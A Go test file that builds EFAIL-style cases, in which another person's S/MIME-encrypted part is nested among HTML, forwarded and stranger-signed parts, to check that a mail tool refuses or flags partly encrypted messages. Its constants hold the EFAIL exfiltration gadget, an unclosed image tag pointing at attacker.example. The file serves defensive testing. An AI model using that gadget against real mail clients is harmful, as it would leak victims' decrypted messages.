package hostiletest

import (
	"strings"
	"testing"
)

// enclosedCases are A76: somebody's encrypted mail among parts of one's own, in
// all the ways that made mail programs hand out its text (EFAIL, 2018). No key is
// used for it, and nothing is written.
func enclosedCases(tb testing.TB, w *World) []Case {
	tb.Helper()
	const (
		open = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
		end  = "Content-Type: text/html\r\n\r\n\">\r\n"
	)
	var out []Case
	for _, cipher := range []string{"aes-256-cbc", "aes-256-gcm"} {
		secret := envelopeEntity(sealed(tb, Text, cipher, to(w.BobEC)))
		label := "smime-type=enveloped-data"
		if cipher == "aes-256-gcm" {
			label = "smime-type=authEnveloped-data"
		}
		clear := func(entity string) string { return ClearEntity(entity, Detached(tb, entity, w.Stranger)) }
		for _, c := range []struct{ name, entity string }{
			{"between two html parts", multipart("mixed", "m", open, secret, end)},
			{"in an alternative", multipart("alternative", "m", Text, secret)},
			{"in a related part", multipart("related", "m", open, secret)},
			{"the only part of a multipart", multipart("mixed", "m", secret)},
			{"forwarded", "Content-Type: message/rfc822\r\n\r\nFrom: eve@example.test\r\n" + secret},
			{"forwarded between html parts", multipart("mixed", "m", open, "Content-Type: message/rfc822\r\n\r\n"+secret, end)},
			{"attached by its name", multipart("mixed", "m", Text, replaced(tb, secret, "application/pkcs7-mime", "application/octet-stream"))},
			{"without a label", multipart("mixed", "m", Text, replaced(tb, secret, label+";", ""))},
			{"labelled as signed", multipart("mixed", "m", open, replaced(tb, secret, label, "smime-type=signed-data"), end)},
			{"in a part that a stranger signed", multipart("mixed", "m", open, clear(secret), end)},
			{"in an opaque part that a stranger signed", multipart("mixed", "m", open, opaqueEntity(tb, secret, w.Stranger), end)},
			{"all of it signed by a stranger", clear(multipart("mixed", "m", open, secret, end))},
		} {
			out = append(out, untouched("A76", cipher+" "+c.name, []byte(Header+c.entity), Partial("partly-encrypted"), "--any-from", "--allow-partial", "--anyway"))
		}
	}
	gcm := sealed(tb, Text, "aes-256-gcm", to(w.BobEC))
	return append(out,
		untouched("A76", "alone, which asks for the key", envelopeMail(gcm), Unfit("passphrase-missing")),
		judged("A76", "verify, which opens nothing", Header+multipart("mixed", "m", open, envelopeEntity(gcm), end), Unsigned()),
		judged("A76", "verify, the whole mail encrypted", string(envelopeMail(gcm)), Want{Exit: 4, Verdict: "encrypted"}),
		decrypted("A76", "beside a signed part", []byte(Header+multipart("mixed", "m", strings.TrimPrefix(clearText(tb, Text, w.AliceEC), Header), envelopeEntity(gcm))), Partial("partly-encrypted")),
	)
}
